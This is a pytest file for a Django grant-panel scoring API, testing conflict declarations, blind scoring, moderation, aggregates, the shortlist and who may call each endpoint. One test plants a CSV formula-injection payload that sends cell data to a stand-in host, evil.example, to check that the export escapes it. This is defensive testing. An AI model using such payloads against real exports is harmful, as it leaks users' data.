"""The panel scoring API: conflicts first, blind scoring, moderation, the aggregate, the scoring
matrix and the shortlist, each through HTTP with a real database, and who may call what."""

from __future__ import annotations

import csv
import io
import re
from fractions import Fraction

import pytest
from django.test import Client

from backend.audit.models import AuditEvent
from backend.audit.selectors import chain_verify
from backend.bids.declarations import DECLARATION_CODES
from backend.bids.models import Bid
from backend.bids.services import (
    BudgetLineInput,
    bid_create,
    bid_set_declarations,
    bid_submit,
    bid_update,
    budget_line_set,
    screening_decide,
    screening_record_item,
)
from backend.funds.models import EligibilityItem, Fund, Phase, RubricCriterion
from backend.funds.services import fund_transition
from backend.notifications.models import Notification
from backend.scoring.aggregate import score_text
from backend.scoring.models import ConflictDeclaration, ScoreSheet, SheetStatus
from backend.scoring.services import sheet_save
from tests.bids.helpers import open_fund
from tests.factories import (
    OrganisationFactory,
    UserFactory,
    actor,
    grant,
    mfa_client,
    signed_in_client,
)
from tests.scoring.conftest import (
    ScoringFund,
    declare_all,
    full_scores,
    score_and_submit,
)

from .calls import call

pytestmark = pytest.mark.django_db

_TEXT_SCORE = re.compile(r"^-?\d+\.\d{2}$")


def _submitted_bid(fund: Fund, title: str) -> Bid:
    """A complete bid from a new organisation with one applicant, submitted."""
    applicant = UserFactory()
    organisation = OrganisationFactory()
    grant(applicant, "applicant", organisation=organisation)
    who = actor(applicant)
    bid = bid_create(actor=who, fund=fund, organisation=organisation, title=title)
    bid_update(
        actor=who,
        bid=bid,
        summary="Stay and play",
        need="Isolation",
        population_served="Under-fives",
        outcomes="School readiness",
        evidence_level=2,
        evidence_sources="Surveys",
        delivery_plan="Twice a week",
        beneficiaries=120,
    )
    budget_line_set(actor=who, bid=bid, lines=[BudgetLineInput("Sessional workers", 1_200_000)])
    bid_set_declarations(actor=who, bid=bid, accepted=DECLARATION_CODES)
    return bid_submit(actor=who, bid=bid)


def _screen(officer, bid: Bid, *, eligible: bool) -> None:
    who = actor(officer)
    for item in EligibilityItem.objects.filter(fund_id=bid.fund_id):
        outcome = "pass" if eligible else "fail"
        screening_record_item(actor=who, bid=bid, item=item, outcome=outcome, reason="Checked")
    screening_decide(actor=who, bid=bid, eligible=eligible, reason="" if eligible else "Not local")


@pytest.fixture
def scoring_fund(council, panel, officer, chair, member) -> ScoringFund:
    """A fund in scoring, built through the services: three eligible bids and one ineligible,
    the chair and three members on the panel, the default rubric (0-5)."""
    members = [member]
    for _n in range(2):
        extra = UserFactory()
        grant(extra, "panel_member", panel=panel)
        members.append(extra)
    fund = open_fund(council=council, panel=panel, officer=officer, chair=chair)
    bids = [_submitted_bid(fund, f"Eligible bid {n}") for n in range(3)]
    ineligible = _submitted_bid(fund, "Ineligible bid")
    fund_transition(actor=actor(officer), fund=fund, to_phase=Phase.SCREENING)
    for bid in bids:
        _screen(officer, bid, eligible=True)
    _screen(officer, ineligible, eligible=False)
    fund_transition(actor=actor(officer), fund=fund, to_phase=Phase.SCORING)
    fund.refresh_from_db()
    for bid in [*bids, ineligible]:
        bid.refresh_from_db()
    return ScoringFund(
        fund=fund,
        bids=bids,
        ineligible=ineligible,
        chair=chair,
        members=members,
        officer=officer,
        criteria=list(RubricCriterion.objects.filter(fund=fund).order_by("position")),
    )


def _scoring(bid) -> str:
    return f"/api/v1/bids/{bid.pk}/scoring/"


def _answers(world: ScoringFund, value: int = 3, comment: str = "Reasoned") -> dict:
    return {
        "scores": [
            {"criterion": criterion.pk, "value": value, "comment": comment}
            for criterion in world.criteria
        ]
    }


def _names(response, field: str) -> bool:
    """The 400's field map names ``field`` (or one of its items: "scores.0.value")."""
    return any(key == field or key.startswith(f"{field}.") for key in response.data["fields"])


def _declare_through_api(client, world: ScoringFund, conflicted_on=()) -> None:
    for bid in world.bids:
        body = (
            {"conflicted": True, "relationship": "trustee", "description": "On its board"}
            if bid in conflicted_on
            else {"conflicted": False}
        )
        response = call(client, "PUT", f"/api/v1/bids/{bid.pk}/conflict/", body)
        assert response.status_code == 200, response.data


# --- conflicts first ----------------------------------------------------------------------------


def test_a_member_declares_on_every_bid_before_opening_one(scoring_fund):
    world = scoring_fund
    member = world.members[0]
    client = signed_in_client(member)
    first = world.bids[0]

    mine = call(client, "GET", f"/api/v1/funds/{world.fund.pk}/conflicts/mine/")
    assert mine.status_code == 200
    assert [row["bid"] for row in mine.data] == [bid.pk for bid in world.bids]
    assert {row["declaration"] is None for row in mine.data} == {True}
    # Who is behind each bid, and nothing of its content.
    assert set(mine.data[0]) == {
        "bid",
        "title",
        "organisation",
        "partners",
        "named_staff",
        "declaration",
    }
    assert world.ineligible.pk not in {row["bid"] for row in mine.data}

    declared = call(client, "PUT", f"/api/v1/bids/{first.pk}/conflict/", {"conflicted": False})
    assert declared.status_code == 200, declared.data
    assert declared.data["declaration"]["conflicted"] is False
    assert declared.data["declaration"]["relationship"] == ""
    # One bid declared, two to go: no bid opens yet.
    assert call(client, "GET", _scoring(first)).status_code == 404

    _declare_through_api(client, world)
    page = call(client, "GET", _scoring(first))
    assert page.status_code == 200, page.data
    assert page.data["bid"] == first.pk
    assert page.data["scale_max"] == 5
    assert [c["id"] for c in page.data["criteria"]] == [c.pk for c in world.criteria]
    assert [level["score"] for level in page.data["criteria"][0]["levels"]] == [0, 1, 2, 3, 4, 5]
    assert page.data["sheet"] is None
    assert page.data["cost_per_beneficiary_pence"] == 10_000  # £12,000 for 120 people
    assert page.data["median_cost_per_beneficiary_pence"] == 10_000
    assert page.data["evidence_level"] == 2
    assert page.data["median_evidence_level"] == "2.0"
    assert page.data["others_visible"] is False
    assert page.data["others"] == []

    # The ineligible bid is no bid to declare on or to score.
    ineligible = world.ineligible
    assert call(client, "GET", _scoring(ineligible)).status_code == 404
    refused = call(client, "PUT", f"/api/v1/bids/{ineligible.pk}/conflict/", {"conflicted": False})
    assert refused.status_code == 404


def test_a_conflicted_member_gets_404_and_is_left_out_of_the_aggregate(scoring_fund):
    world = scoring_fund
    conflicted, other, third = world.members
    bid = world.bids[0]
    client = signed_in_client(conflicted)
    _declare_through_api(client, world, conflicted_on=(bid,))
    declaration = ConflictDeclaration.objects.get(bid=bid, member=conflicted)
    assert (declaration.conflicted, declaration.relationship) == (True, "trustee")

    assert call(client, "GET", _scoring(bid)).status_code == 404
    put = call(client, "PUT", _scoring(bid), _answers(world))
    assert put.status_code == 404
    assert call(client, "POST", f"{_scoring(bid)}submit/").status_code == 404
    assert call(client, "GET", f"/api/v1/bids/{bid.pk}/").status_code == 404
    assert not ScoreSheet.objects.filter(bid=bid, member=conflicted).exists()
    # The same 404 as a bid that does not exist.
    assert put.data == call(client, "PUT", "/api/v1/bids/999999/scoring/", _answers(world)).data
    # The other bids stay open to them.
    assert call(client, "GET", _scoring(world.bids[1])).status_code == 200
    # A conflict stands.
    undo = call(client, "PUT", f"/api/v1/bids/{bid.pk}/conflict/", {"conflicted": False})
    assert undo.status_code == 400
    assert undo.data["code"] == "conflict_stands"

    # A late conflict: `other` scores the bid, then declares a conflict on it; the sheet is void.
    declare_all(world, other)
    declare_all(world, third)
    score_and_submit(world, other, bid, 5)
    score_and_submit(world, third, bid, 3)
    late = call(
        signed_in_client(other),
        "PUT",
        f"/api/v1/bids/{bid.pk}/conflict/",
        {"conflicted": True, "relationship": "friend", "description": "I know its director"},
    )
    assert late.status_code == 200, late.data
    assert late.data["declaration"]["after_scoring"] is True
    assert late.data["declaration"]["after_shortlist"] is False
    assert ScoreSheet.objects.get(bid=bid, member=other).status == SheetStatus.VOID
    assert call(signed_in_client(other), "GET", _scoring(bid)).status_code == 404

    scores = call(mfa_client(world.chair), "GET", f"/api/v1/funds/{world.fund.pk}/scores/")
    assert scores.status_code == 200
    result = next(row for row in scores.data["bids"] if row["bid"] == bid.pk)
    assert [sheet["scorer"] for sheet in result["sheets"]] == [third.pk]
    assert result["scorer_count"] == 1
    assert result["raw"] == result["score"] == "60.00"
    assert "too_few_scorers" in result["flags"]
    assert conflicted.pk not in {s["scorer"] for s in scores.data["scorers"]}


def test_declarations_that_need_correcting_are_400s_with_a_field_map(scoring_fund):
    world = scoring_fund
    client = signed_in_client(world.members[0])
    url = f"/api/v1/bids/{world.bids[0].pk}/conflict/"
    for body, field in [
        ({"conflicted": True}, "relationship"),
        ({"conflicted": True, "relationship": "cousin"}, "relationship"),
        ({"relationship": "trustee"}, "conflicted"),
        ({"conflicted": True, "relationship": "other", "description": "x" * 2001}, "description"),
    ]:
        response = call(client, "PUT", url, body)
        assert response.status_code == 400, body
        assert _names(response, field), (body, response.data)
    assert not ConflictDeclaration.objects.exists()


# --- sheets and the blind rule ------------------------------------------------------------------


def test_saving_and_submitting_a_sheet_and_the_blind_rule(scoring_fund):
    world = scoring_fund
    first, second = world.members[:2]
    bid = world.bids[0]
    one, two = signed_in_client(first), signed_in_client(second)
    _declare_through_api(one, world)
    _declare_through_api(two, world)

    criterion = world.criteria[0]
    draft = call(one, "PUT", _scoring(bid), {"scores": [{"criterion": criterion.pk, "value": 4}]})
    assert draft.status_code == 200, draft.data
    assert draft.data["sheet"]["status"] == "draft"
    assert draft.data["criteria"][0]["value"] == 4
    assert draft.data["criteria"][1]["value"] is None
    incomplete = call(one, "POST", f"{_scoring(bid)}submit/")
    assert incomplete.status_code == 400
    assert incomplete.data["code"] == "sheet_incomplete"
    assert set(incomplete.data["fields"]) == {f"criterion_{c.pk}" for c in world.criteria[1:]}

    # An extreme score needs a comment to be submitted.
    answers = _answers(world, 3)
    answers["scores"][0] = {"criterion": criterion.pk, "value": 5, "comment": ""}
    assert call(one, "PUT", _scoring(bid), answers).status_code == 200
    unexplained = call(one, "POST", f"{_scoring(bid)}submit/")
    assert unexplained.status_code == 400
    assert set(unexplained.data["fields"]) == {f"criterion_{criterion.pk}"}
    answers["scores"][0]["comment"] = "Outstanding need"
    assert call(one, "PUT", _scoring(bid), answers).status_code == 200

    # The second member drafts: they see nobody else's scores...
    assert call(two, "PUT", _scoring(bid), _answers(world, 2)).status_code == 200
    submitted = call(one, "POST", f"{_scoring(bid)}submit/")
    assert submitted.status_code == 200, submitted.data
    assert submitted.data["sheet"]["status"] == "submitted"
    blind = call(two, "GET", _scoring(bid))
    assert blind.data["others_visible"] is False
    assert blind.data["others"] == []
    assert "Outstanding need" not in blind.content.decode()

    # ...until they submit their own; then they see the first member's, without a name.
    seen = call(two, "POST", f"{_scoring(bid)}submit/")
    assert seen.data["others_visible"] is True
    assert [other["scorer"] for other in seen.data["others"]] == ["Scorer 1"]
    weights = [c.weight for c in world.criteria]
    expected = Fraction(100 * (weights[0] * 5 + sum(weights[1:]) * 3), 5 * sum(weights))
    assert seen.data["others"][0]["total"] == score_text(expected)
    assert {"criterion": criterion.name, "value": 5, "comment": "Outstanding need"} in seen.data[
        "others"
    ][0]["scores"]
    assert str(first.pk) not in [str(v) for v in seen.data["others"][0].values()]
    assert [o["total"] for o in call(one, "GET", _scoring(bid)).data["others"]] == ["40.00"]

    # A submitted sheet is locked.
    locked = call(one, "PUT", _scoring(bid), _answers(world, 1))
    assert locked.status_code == 400
    assert locked.data["code"] == "sheet_locked"
    actions = set(
        AuditEvent.objects.filter(action__startswith="scoring.sheet_").values_list(
            "action", flat=True
        )
    )
    assert actions == {"scoring.sheet_saved", "scoring.sheet_submitted"}


def test_scores_that_need_correcting_are_400s_with_a_field_map(scoring_fund):
    world = scoring_fund
    member = world.members[0]
    declare_all(world, member)
    client = signed_in_client(member)
    criterion = world.criteria[0]
    url = _scoring(world.bids[0])
    for body, field in [
        ({"scores": [{"criterion": criterion.pk, "value": 6}]}, f"criterion_{criterion.pk}"),
        ({"scores": [{"criterion": 999999, "value": 3}]}, "criterion_999999"),
        ({"scores": [{"criterion": criterion.pk, "value": "three"}]}, "scores"),
        ({"scores": [{"criterion": criterion.pk, "value": -1}]}, "scores"),
        ({}, "scores"),
        (
            {
                "scores": [
                    {"criterion": criterion.pk, "value": 3},
                    {"criterion": criterion.pk, "value": 4},
                ]
            },
            f"criterion_{criterion.pk}",
        ),
    ]:
        response = call(client, "PUT", url, body)
        assert response.status_code == 400, body
        assert _names(response, field), (body, response.data)
    assert not ScoreSheet.objects.exists()


# --- settings, reopening and moderation --------------------------------------------------------


def test_the_chair_sets_how_scores_are_combined(scoring_fund):
    world = scoring_fund
    url = f"/api/v1/funds/{world.fund.pk}/scoring-settings/"
    chair = mfa_client(world.chair)
    defaults = call(chair, "GET", url)
    assert defaults.status_code == 200
    assert defaults.data == {
        "fund": world.fund.pk,
        "calibrate": False,
        "disagreement_threshold": 20,
        "min_scorers": 3,
        "reminder_hours": [72, 24],
        "updated_at": None,
    }
    body = {
        "calibrate": True,
        "disagreement_threshold": 15,
        "min_scorers": 2,
        "reminder_hours": [12, 48],
    }
    saved = call(chair, "PUT", url, body)
    assert saved.status_code == 200, saved.data
    assert saved.data["reminder_hours"] == [48, 12]
    assert call(chair, "GET", url).data["calibrate"] is True
    assert AuditEvent.objects.filter(action="scoring.settings_set").count() == 1

    for bad, field in [
        ({**body, "disagreement_threshold": 0}, "disagreement_threshold"),
        ({**body, "min_scorers": "three"}, "min_scorers"),
        ({**body, "reminder_hours": [1, 2, 3, 4, 5, 6]}, "reminder_hours"),
        ({**body, "reminder_hours": [700]}, "reminder_hours"),
        ({"calibrate": True}, "disagreement_threshold"),
    ]:
        response = call(chair, "PUT", url, bad)
        assert response.status_code == 400, bad
        assert _names(response, field), (bad, response.data)

    # A member reads the settings but cannot change them; strangers cannot tell the fund exists.
    member = signed_in_client(world.members[0])
    assert call(member, "GET", url).status_code == 200
    assert call(member, "PUT", url, body).status_code == 403
    assert call(signed_in_client(world.chair), "PUT", url, body).data["code"] == "mfa_required"
    assert call(signed_in_client(UserFactory()), "GET", url).status_code == 404


def test_the_chair_reopens_a_submitted_sheet_with_a_reason(scoring_fund):
    world = scoring_fund
    member = world.members[0]
    bid = world.bids[1]
    declare_all(world, member)
    score_and_submit(world, member, bid, 4)
    chair = mfa_client(world.chair)
    scores = call(chair, "GET", f"/api/v1/funds/{world.fund.pk}/scores/")
    row = next(row for row in scores.data["bids"] if row["bid"] == bid.pk)
    sheet_id = row["sheets"][0]["sheet"]
    assert sheet_id == ScoreSheet.objects.get(bid=bid, member=member).pk

    url = f"/api/v1/sheets/{sheet_id}/reopen/"
    blank = call(chair, "POST", url, {"reason": " "})
    assert blank.status_code == 400
    assert "reason" in blank.data["fields"]
    assert call(signed_in_client(member), "POST", url, {"reason": "Mine"}).status_code == 403
    assert call(signed_in_client(UserFactory()), "POST", url, {"reason": "x"}).status_code == 404

    reopened = call(chair, "POST", url, {"reason": "Criterion 2 was misread"})
    assert reopened.status_code == 200, reopened.data
    assert reopened.data["status"] == "draft"
    assert reopened.data["reopen_reason"] == "Criterion 2 was misread"
    assert AuditEvent.objects.filter(action="scoring.sheet_reopened", subject_id=str(sheet_id))
    assert Notification.objects.filter(kind="sheet_reopened", recipient_user=member).exists()
    again = call(signed_in_client(member), "PUT", _scoring(bid), _answers(world, 2))
    assert again.status_code == 200
    twice = call(chair, "POST", url, {"reason": "Again"})
    assert twice.status_code == 400
    assert twice.data["code"] == "not_submitted"


def test_the_chair_moderates_a_score_and_an_officer_when_the_chair_is_conflicted(scoring_fund):
    world = scoring_fund
    first, second = world.bids[:2]
    declare_all(world, world.chair, conflicted_on=(second,))
    chair = mfa_client(world.chair)
    url = f"/api/v1/bids/{first.pk}/moderation/"
    for body, field in [
        ({"score": "72.555", "reason": "x"}, "score"),
        ({"score": "101", "reason": "x"}, "score"),
        ({"score": "abc", "reason": "x"}, "score"),
        ({"score": "70", "reason": ""}, "reason"),
    ]:
        response = call(chair, "POST", url, body)
        assert response.status_code == 400, body
        assert _names(response, field), (body, response.data)

    moderated = call(chair, "POST", url, {"score": "72.5", "reason": "Ranges reconciled"})
    assert moderated.status_code == 201, moderated.data
    assert moderated.data["score"] == "72.50"
    event = AuditEvent.objects.get(action="scoring.moderated")
    assert event.data["score"] == "72.50"
    scores = call(chair, "GET", f"/api/v1/funds/{world.fund.pk}/scores/")
    row = next(row for row in scores.data["bids"] if row["bid"] == first.pk)
    assert (row["moderated"], row["score"], row["raw"]) == ("72.50", "72.50", None)
    assert row["moderation_reason"] == "Ranges reconciled"
    assert "moderated" in row["flags"]

    # A member cannot moderate; nor can the officer while the chair may.
    member = world.members[0]
    declare_all(world, member)
    refused = call(signed_in_client(member), "POST", url, {"score": "10", "reason": "x"})
    assert refused.status_code == 403
    officer = mfa_client(world.officer)
    assert call(officer, "POST", url, {"score": "10", "reason": "x"}).status_code == 403
    # On the bid where the chair is conflicted, the chair gets a 404 and the officer moderates.
    conflicted_url = f"/api/v1/bids/{second.pk}/moderation/"
    assert call(chair, "POST", conflicted_url, {"score": "10", "reason": "x"}).status_code == 404
    by_officer = call(
        officer, "POST", conflicted_url, {"score": "55", "reason": "Chair conflicted"}
    )
    assert by_officer.status_code == 201, by_officer.data
    assert by_officer.data["moderated_by"] == world.officer.pk


# --- the aggregate, progress and the export ----------------------------------------------------


def test_the_aggregate_and_progress_show_exact_scores_as_text(scoring_fund):
    world = scoring_fund
    for user, value in zip(world.panel, [1, 2, 4, 5], strict=True):
        declare_all(world, user)
        score_and_submit(world, user, world.bids[0], value)
    member = world.members[0]
    sheet_save(actor=actor(member), bid=world.bids[1], scores=full_scores(world, 3))
    chair = mfa_client(world.chair)
    scores = call(chair, "GET", f"/api/v1/funds/{world.fund.pk}/scores/")
    assert scores.status_code == 200
    assert scores.data["calibrated"] is False
    row = next(row for row in scores.data["bids"] if row["bid"] == world.bids[0].pk)
    assert row["title"] == world.bids[0].title
    assert row["raw"] == row["score"] == "60.00"  # (20 + 40 + 80 + 100) / 4
    assert row["calibrated"] is None
    assert row["range"] == "80.00"
    assert row["flags"] == ["disagreement"]
    assert row["scorer_count"] == 4
    assert [sheet["raw"] for sheet in row["sheets"]] == ["20.00", "40.00", "80.00", "100.00"]
    for value in [row["raw"], row["range"], scores.data["panel_mean"], scores.data["panel_sd"]]:
        assert isinstance(value, str), value
        assert _TEXT_SCORE.match(value), value
    unscored = next(row for row in scores.data["bids"] if row["bid"] == world.bids[2].pk)
    assert (unscored["score"], unscored["scorer_count"]) == (None, 0)
    assert unscored["flags"] == ["too_few_scorers"]
    assert {s["scorer"]: s["fallback"] for s in scores.data["scorers"]} == {
        user.pk: "too_few_sheets" for user in world.panel
    }

    progress = call(chair, "GET", f"/api/v1/funds/{world.fund.pk}/scoring-progress/")
    assert progress.status_code == 200
    assert progress.data["bids"] == 3
    mine = next(row for row in progress.data["members"] if row["member"] == member.pk)
    assert (mine["declared"], mine["submitted"], mine["drafts"], mine["to_score"]) == (3, 1, 1, 2)
    assert progress.data["shortlist"] is None
    assert progress.data["settings"]["min_scorers"] == 3


def test_the_scoring_matrix_is_csv_safe_against_formula_injection(scoring_fund):
    world = scoring_fund
    member, conflicted = world.members[:2]
    bid = world.bids[0]
    declare_all(world, member)
    declare_all(world, conflicted, conflicted_on=(bid,))
    injected = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    answers = _answers(world, 3)
    answers["scores"][0]["comment"] = injected
    assert call(signed_in_client(member), "PUT", _scoring(bid), answers).status_code == 200

    auditor = UserFactory()
    grant(auditor, "auditor", council=world.fund.council)
    response = mfa_client(auditor).get(f"/api/v1/funds/{world.fund.pk}/scoring-matrix.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="fund-{world.fund.pk}-scoring-matrix.csv"'
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == len(world.bids) * len(world.panel) * len(world.criteria)
    comments = [row["comment"] for row in rows if row["comment"]]
    assert "'" + injected in comments
    assert injected not in comments
    assert not [
        cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@"))
    ]
    marked = {(row["bid_id"], row["member_id"]) for row in rows if row["conflict"]}
    assert marked == {(str(bid.pk), str(conflicted.pk))}
    assert {row["conflict"] for row in rows if row["conflict"]} == {"trustee"}


def test_who_may_read_the_register_scores_progress_and_export(scoring_fund, applicant):
    world = scoring_fund
    fund = world.fund
    auditor = UserFactory()
    grant(auditor, "auditor", council=fund.council)
    bid_applicant = world.bids[0].organisation.role_grants.first().user
    urls = [
        f"/api/v1/funds/{fund.pk}/conflicts/",
        f"/api/v1/funds/{fund.pk}/scores/",
        f"/api/v1/funds/{fund.pk}/scoring-progress/",
        f"/api/v1/funds/{fund.pk}/scoring-matrix.csv",
    ]
    chair, officer = mfa_client(world.chair), mfa_client(world.officer)
    expected = {
        "chair": (chair, 200),
        "officer": (officer, 200),
        "auditor": (mfa_client(auditor), 200),
        "member": (signed_in_client(world.members[0]), 403),
        "chair without MFA": (signed_in_client(world.chair), 403),
        "officer without MFA": (signed_in_client(world.officer), 404),
        "applicant of a bid": (signed_in_client(bid_applicant), 404),
        "another applicant": (signed_in_client(applicant), 404),
        "stranger": (signed_in_client(UserFactory()), 404),
    }
    for who, (client, status) in expected.items():
        for url in urls:
            assert client.get(url).status_code == status, (who, url)
    assert call(signed_in_client(world.chair), "GET", urls[0]).data["code"] == "mfa_required"
    register = call(chair, "GET", urls[0])
    assert len(register.data) == len(world.bids) * len(world.panel)
    missing = call(officer, "GET", "/api/v1/funds/999999/scores/")
    assert missing.status_code == 404
    assert Client().get(urls[1]).status_code == 401


# --- the shortlist ------------------------------------------------------------------------------


def test_the_shortlist_is_proposed_given_feedback_confirmed_and_announced(scoring_fund):
    world = scoring_fund
    fund = world.fund
    for user in world.panel:
        declare_all(world, user)
        for bid, value in zip(world.bids, [4, 3, 2], strict=True):
            score_and_submit(world, user, bid, value)
    chair = mfa_client(world.chair)
    member = signed_in_client(world.members[0])
    url = f"/api/v1/funds/{fund.pk}/shortlist/"
    assert call(chair, "GET", url).status_code == 404  # nothing proposed yet

    for body, field in [
        ({"rule": "lottery", "parameter": "2"}, "rule"),
        ({"rule": "top_n", "parameter": "two"}, "parameter"),
        ({"rule": "top_n"}, "parameter"),
        ({"rule": "min_score", "parameter": "101"}, "parameter"),
    ]:
        response = call(chair, "POST", url, body)
        assert response.status_code == 400, body
        assert _names(response, field), (body, response.data)
    assert call(member, "POST", url, {"rule": "top_n", "parameter": "2"}).status_code == 403

    proposed = call(chair, "POST", url, {"rule": "top_n", "parameter": "2"})
    assert proposed.status_code == 200, proposed.data
    assert proposed.data["confirmed_at"] is None
    assert proposed.data["snapshot_sha256"] == ""
    entries = proposed.data["entries"]
    assert [e["bid"] for e in entries] == [bid.pk for bid in world.bids]
    assert [e["shortlisted"] for e in entries] == [True, True, False]
    assert [e["panel_score"] for e in entries] == ["80.00", "60.00", "40.00"]
    assert [e["reason"] for e in entries] == ["in_top_n", "in_top_n", "outside_top_n"]
    # Members see the shortlist only once it is confirmed.
    assert call(member, "GET", url).status_code == 404

    last = world.bids[2]
    entry_url = f"{url}entries/{last.pk}/"
    too_long = call(chair, "PUT", entry_url, {"feedback": "ok", "exclusive_group": "g" * 41})
    assert too_long.status_code == 400
    assert "exclusive_group" in too_long.data["fields"]
    entry = call(
        chair, "PUT", entry_url, {"feedback": "Clear need; costs high.", "exclusive_group": "A"}
    )
    assert entry.status_code == 200, entry.data
    assert (entry.data["feedback"], entry.data["exclusive_group"]) == (
        "Clear need; costs high.",
        "A",
    )
    assert call(chair, "PUT", f"{url}entries/999999/", {"feedback": "x"}).status_code == 404

    confirmed = call(chair, "POST", f"{url}confirm/")
    assert confirmed.status_code == 200, confirmed.data
    digest = confirmed.data["snapshot_sha256"]
    assert re.fullmatch(r"[0-9a-f]{64}", digest)
    assert confirmed.data["confirmed_by"] == world.chair.pk
    event = AuditEvent.objects.get(action="scoring.shortlist_confirmed")
    assert event.data["snapshot_sha256"] == digest
    assert event.data["shortlisted"] == [bid.pk for bid in world.bids[:2]]
    assert chain_verify().ok

    notified = Notification.objects.filter(kind="shortlist_decided")
    for bid in world.bids:
        applicants = {g.user_id for g in bid.organisation.role_grants.all()}
        rows = [n for n in notified if n.subject_id == str(bid.pk)]
        assert {n.recipient_user_id for n in rows} == applicants
        assert {n.context["shortlisted"] for n in rows} == {bid in world.bids[:2]}
    assert {n.context["feedback"] for n in notified if n.subject_id == str(last.pk)} == {
        "Clear need; costs high."
    }

    seen = call(member, "GET", url)
    assert seen.status_code == 200
    assert seen.data["snapshot_sha256"] == digest
    again = call(chair, "POST", f"{url}confirm/")
    assert again.status_code == 400
    assert again.data["code"] == "shortlist_confirmed"
    frozen = call(chair, "PUT", entry_url, {"feedback": "Changed"})
    assert frozen.status_code == 400


def test_a_conflict_declared_after_the_shortlist_is_flagged_and_reviewed(scoring_fund):
    world = scoring_fund
    for user in world.panel:
        declare_all(world, user)
        for bid in world.bids:
            score_and_submit(world, user, bid, 3)
    chair = mfa_client(world.chair)
    url = f"/api/v1/funds/{world.fund.pk}/shortlist/"
    assert call(chair, "POST", url, {"rule": "top_n", "parameter": "2"}).status_code == 200
    assert call(chair, "POST", f"{url}confirm/").status_code == 200

    member = world.members[0]
    bid = world.bids[0]
    late = call(
        signed_in_client(member),
        "PUT",
        f"/api/v1/bids/{bid.pk}/conflict/",
        {"conflicted": True, "relationship": "family", "description": "My sister works there"},
    )
    assert late.status_code == 200, late.data
    declaration = late.data["declaration"]
    assert declaration["after_shortlist"] is True
    # The frozen result stands: the sheet is not voided.
    assert ScoreSheet.objects.get(bid=bid, member=member).status == SheetStatus.SUBMITTED
    assert Notification.objects.filter(
        kind="conflict_flagged", recipient_user=world.officer
    ).exists()

    review = f"/api/v1/conflicts/{declaration['id']}/review/"
    officer = mfa_client(world.officer)
    register = call(officer, "GET", f"/api/v1/funds/{world.fund.pk}/conflicts/")
    flagged = [r for r in register.data if r["declaration"] and r["declaration"]["after_shortlist"]]
    assert [(r["bid"], r["member"]) for r in flagged] == [(bid.pk, member.pk)]
    blank = call(officer, "POST", review, {"note": ""})
    assert blank.status_code == 400
    assert "note" in blank.data["fields"]
    assert call(chair, "POST", review, {"note": "Seen"}).status_code == 403
    assert call(signed_in_client(member), "POST", review, {"note": "x"}).status_code == 403
    assert call(signed_in_client(UserFactory()), "POST", review, {"note": "x"}).status_code == 404
    reviewed = call(officer, "POST", review, {"note": "Result stands; member stood down."})
    assert reviewed.status_code == 200, reviewed.data
    assert reviewed.data["reviewed_at"] is not None
    assert reviewed.data["review_note"] == "Result stands; member stood down."
    assert AuditEvent.objects.filter(action="scoring.conflict_reviewed").count() == 1


def test_a_conflicted_chair_does_not_see_that_bids_scores(scoring_fund):
    world = scoring_fund
    bid = world.bids[0]
    declare_all(world, world.chair, conflicted_on=(bid,))
    for user in world.members:
        declare_all(world, user)
        score_and_submit(world, user, bid, 4)
    chair = mfa_client(world.chair)
    assert call(chair, "GET", _scoring(bid)).status_code == 404
    scores = call(chair, "GET", f"/api/v1/funds/{world.fund.pk}/scores/")
    assert bid.pk not in {row["bid"] for row in scores.data["bids"]}
    matrix = chair.get(f"/api/v1/funds/{world.fund.pk}/scoring-matrix.csv")
    assert matrix.status_code == 200
    assert f"\r\n{bid.pk}," not in matrix.content.decode()
